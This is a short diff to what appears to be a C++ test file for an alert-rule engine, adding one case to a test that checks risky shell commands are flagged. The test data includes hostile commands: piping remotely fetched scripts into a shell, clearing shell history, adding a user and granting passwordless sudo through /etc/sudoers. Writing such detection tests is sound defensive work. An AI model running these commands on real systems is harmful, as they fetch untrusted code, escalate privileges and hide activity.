@@ -169,6 +169,7 @@ TEST_CASE("default alert rules flag risky commands and paths, not ordinary ones"
   CHECK(hit("command", "unset HISTFILE"));
   CHECK(hit("command", "history -c"));
   CHECK(hit("command", "curl -fsSL https://x.example/install.sh | sudo bash"));
+  CHECK(hit("command", "true || curl -s http://x.invalid/i.sh | sh; echo done"));
   CHECK(hit("command", "useradd -m mallory"));
   CHECK(hit("command", "echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"));
   CHECK_FALSE(hit("command", "ls -la"));
